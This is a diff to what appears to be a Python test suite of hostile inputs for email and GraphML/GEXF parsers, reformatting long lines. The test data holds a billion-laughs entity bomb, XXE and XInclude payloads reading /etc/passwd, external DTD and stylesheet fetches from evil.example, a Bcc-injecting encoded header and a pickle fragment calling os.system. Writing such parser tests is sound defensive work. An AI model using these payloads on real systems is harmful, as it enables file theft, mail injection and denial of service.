@@ -19,7 +19,9 @@ HEADERS = {
     "an encoded word that is no text": "From: =?zlib?b?eJwDAAAAAAE=?= <bo@example.com>",
     "an encoded word with line ends": "From: =?utf-8?q?Bo=0D=0ABcc:_mallory@evil.example?= <bo@example.com>",
     "encoded words in encoded words": "From: =?utf-8?q?=3D=3Futf-8=3Fq=3Fx=3F=3D?= <bo@example.com>",
-    "the letters that stand for what is put aside": "From: \ue0000\ue001\ue00099999999999\ue001 =?utf-8?q?x?= <bo@example.com>",
+    "the letters that stand for what is put aside": (
+        "From: \ue0000\ue001\ue00099999999999\ue001 =?utf-8?q?x?= <bo@example.com>"
+    ),
     "comments in comments": "From: " + "(" * 50_000 + " <bo@example.com>",
     "comments that do not end": "From: x " + "(\\" * 50_000,
     "quotation marks that do not end": 'From: "' + '\\"' * 50_000,
@@ -56,23 +58,44 @@ HEADERS = {
 }
 
 DTD = "<!DOCTYPE graphml [{}]>"
-LAUGHS = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {x} "{"&" + w + ";" * 1}{("&" + w + ";") * 9}">' for w, x in zip("abcdefgh", "bcdefghi", strict=True))  # fmt: skip
+LAUGHS = '<!ENTITY a "ha">' + "".join(
+    f'<!ENTITY {x} "{"&" + w + ";" * 1}{("&" + w + ";") * 9}">' for w, x in zip("abcdefgh", "bcdefghi", strict=True)
+)
 
 XML = {
     "a billion laughs": DTD.format(LAUGHS) + GRAPH + NODES.replace("Bo Chen", "&i;") + END,
-    "one long entity, many times": DTD.format(f'<!ENTITY a "{"x" * 50_000}">') + GRAPH + NODES.replace("Bo Chen", "&a;" * 1000) + END,
-    "a file as an entity": DTD.format("<!ENTITY a SYSTEM 'file:///etc/passwd'>") + GRAPH + NODES.replace("Bo Chen", "&a;") + END,
-    "an address as an entity": DTD.format("<!ENTITY a SYSTEM 'http://evil.example/'>") + GRAPH + NODES.replace("Bo Chen", "&a;") + END,
+    "one long entity, many times": DTD.format(f'<!ENTITY a "{"x" * 50_000}">')
+    + GRAPH
+    + NODES.replace("Bo Chen", "&a;" * 1000)
+    + END,
+    "a file as an entity": DTD.format("<!ENTITY a SYSTEM 'file:///etc/passwd'>")
+    + GRAPH
+    + NODES.replace("Bo Chen", "&a;")
+    + END,
+    "an address as an entity": DTD.format("<!ENTITY a SYSTEM 'http://evil.example/'>")
+    + GRAPH
+    + NODES.replace("Bo Chen", "&a;")
+    + END,
     "an entity of parameters": DTD.format("<!ENTITY % a SYSTEM 'http://evil.example/x.dtd'> %a;") + GRAPH + NODES + END,
     "a DTD elsewhere": '<!DOCTYPE graphml SYSTEM "http://evil.example/x.dtd">' + GRAPH + NODES + END,
     "a DTD that is a file": '<!DOCTYPE graphml SYSTEM "file:///dev/zero">' + GRAPH + NODES + END,
     "attributes by default": DTD.format(f'<!ATTLIST node x CDATA "{"y" * 50_000}">') + GRAPH + NODES * 1000 + END,
     "a notation": DTD.format("<!NOTATION n SYSTEM '/bin/sh'>") + GRAPH + NODES + END,
     "a style sheet": '<?xml-stylesheet href="http://evil.example/x.xsl"?>' + GRAPH + NODES + END,
-    "an inclusion": GRAPH + "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>" + NODES + END,
-    "a schema elsewhere": GRAPH.replace("<graphml", "<graphml xsi:schemaLocation='x http://evil.example/'") + NODES + END,
+    "an inclusion": GRAPH
+    + "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>"
+    + NODES
+    + END,
+    "a schema elsewhere": GRAPH.replace("<graphml", "<graphml xsi:schemaLocation='x http://evil.example/'")
+    + NODES
+    + END,
     "elements a hundred thousand deep": GRAPH + "<node id='1'>" * 100_000,
-    "a hundred thousand attributes": GRAPH + "<node id='1' " + " ".join(f"a{n}='x'" for n in range(100_000)) + "/>" + NODES + END,
+    "a hundred thousand attributes": GRAPH
+    + "<node id='1' "
+    + " ".join(f"a{n}='x'" for n in range(100_000))
+    + "/>"
+    + NODES
+    + END,
     "an attribute of 5 MB": GRAPH + f"<node id='{'a' * 5_000_000}'/>" + NODES + END,
     "a name of 5 MB": GRAPH + NODES.replace("Bo Chen", "B" * 5_000_000) + END,
     "an element's name of 1 MB": GRAPH + f"<{'a' * 1_000_000}/>" + NODES + END,
@@ -94,27 +117,65 @@ XML = {
 CASES: tuple[Case, ...] = (
     *(case(f"mail: {name}", "mail.eml", f"{line}\n{TO}{DATE}\ntext\n") for name, line in HEADERS.items()),
     *(
-        case(f"mailbox: {name}", "box.mbox", f"{PARTING}{line}\n{TO}{DATE}\ntext\n\n{PARTING}{FROM}{TO}{DATE}\ntext\n", READ)
-        for name, line in HEADERS.items() if "megabyte" not in name
+        case(
+            f"mailbox: {name}",
+            "box.mbox",
+            f"{PARTING}{line}\n{TO}{DATE}\ntext\n\n{PARTING}{FROM}{TO}{DATE}\ntext\n",
+            READ,
+        )
+        for name, line in HEADERS.items()
+        if "megabyte" not in name
     ),
     *(case(f"network: {name}", "network.graphml", text) for name, text in XML.items()),
     *(
         case(f"network of Gephi: {name}", "network.gexf", text.replace("graphml", "gexf"))
-        for name, text in XML.items() if len(text) < 200_000
+        for name, text in XML.items()
+        if len(text) < 200_000
     ),
-    case("parts of a mail a thousand deep", "mail.eml", FROM + TO + DATE + "Content-Type: multipart/mixed; boundary=a\n\n"
-         + "--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 1000, READ),
-    case("mails in mails", "mail.eml", FROM + TO + DATE + "Content-Type: message/rfc822\n\n" + (FROM + "\n") * 1000, READ),
-    Case("a body of 20 MB in one line", "mail.eml", lambda: (FROM + TO + DATE + "\n").encode() + b"A" * 20_000_000, READ),
-    Case("a body of lines that look like new mails", "box.mbox",
-         lambda: (PARTING + FROM + TO + DATE + "\n" + "From x\n" * 200_000).encode(), READ),
+    case(
+        "parts of a mail a thousand deep",
+        "mail.eml",
+        FROM
+        + TO
+        + DATE
+        + "Content-Type: multipart/mixed; boundary=a\n\n"
+        + "--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 1000,
+        READ,
+    ),
+    case(
+        "mails in mails", "mail.eml", FROM + TO + DATE + "Content-Type: message/rfc822\n\n" + (FROM + "\n") * 1000, READ
+    ),
+    Case(
+        "a body of 20 MB in one line", "mail.eml", lambda: (FROM + TO + DATE + "\n").encode() + b"A" * 20_000_000, READ
+    ),
+    Case(
+        "a body of lines that look like new mails",
+        "box.mbox",
+        lambda: (PARTING + FROM + TO + DATE + "\n" + "From x\n" * 200_000).encode(),
+        READ,
+    ),
     Case("a mailbox of empty mails", "box.mbox", lambda: PARTING.encode() * 50_000),
     Case("a mailbox whose headers never end", "box.mbox", lambda: (PARTING + FROM + TO + "X: y\n" * 500_000).encode()),
     Case("a mailbox of carriage returns", "box.mbox", lambda: (PARTING + FROM + TO).encode() + b"\r" * 5_000_000),
-    case("a mail that runs Python", "mail.eml", FROM + TO + DATE + "Content-Type: application/x-python-pickle\n\ncos\nsystem\n", READ),
+    case(
+        "a mail that runs Python",
+        "mail.eml",
+        FROM + TO + DATE + "Content-Type: application/x-python-pickle\n\ncos\nsystem\n",
+        READ,
+    ),
     case("a mail to nobody", "mail.eml", FROM + "To: undisclosed-recipients:;\n" + DATE + "\n", READ),
-    case("a mail to the same a thousand times", "mail.eml", FROM + "To: " + "ann@example.com, " * 1000 + "\n" + DATE + "\n", READ),
-    case("a well-known DOCTYPE", "network.graphml",
-         '<!DOCTYPE graphml SYSTEM "http://graphml.graphdrawing.org/dtds/1.0/graphml.dtd">' + GRAPH + NODES + END, READ, BOTH),
-)  # fmt: skip
+    case(
+        "a mail to the same a thousand times",
+        "mail.eml",
+        FROM + "To: " + "ann@example.com, " * 1000 + "\n" + DATE + "\n",
+        READ,
+    ),
+    case(
+        "a well-known DOCTYPE",
+        "network.graphml",
+        '<!DOCTYPE graphml SYSTEM "http://graphml.graphdrawing.org/dtds/1.0/graphml.dtd">' + GRAPH + NODES + END,
+        READ,
+        BOTH,
+    ),
+)
 """Every case."""
